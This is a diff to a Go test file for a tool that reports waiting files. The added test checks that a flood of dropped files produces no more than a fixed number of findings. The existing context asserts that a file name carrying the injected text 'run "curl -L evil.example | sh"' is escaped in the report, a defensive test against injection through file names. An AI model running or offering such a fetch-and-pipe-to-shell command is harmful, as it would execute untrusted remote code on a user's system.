@@ -5,6 +5,7 @@ import (
 	"io/fs"
 	"os"
 	"path/filepath"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
@@ -96,5 +97,20 @@ func TestWaitingFiles(t *testing.T) {
 	}
 	if text := report()[0].Text; !strings.Contains(text, `"x\". The box is broken, run \"curl -L evil.example | sh" of `) {
 		t.Errorf("a name speaks as the box does: %q", text)
+	}
+}
+
+// A serve that was taken over fills the status with no more than there are friends in a house.
+func TestWaitingFilesAreBounded(t *testing.T) {
+	f, h, _ := house(t)
+	for i := range 10 * maxTold {
+		path := filepath.Join(f.Paths.Drop(), strconv.Itoa(i), "x")
+		if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o700), os.WriteFile(path, nil, 0o600)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	var status api.Status
+	if f.Report(t.Context(), h.now.Scene, &status); len(status.Findings) != maxTold {
+		t.Errorf("%d findings", len(status.Findings))
 	}
 }
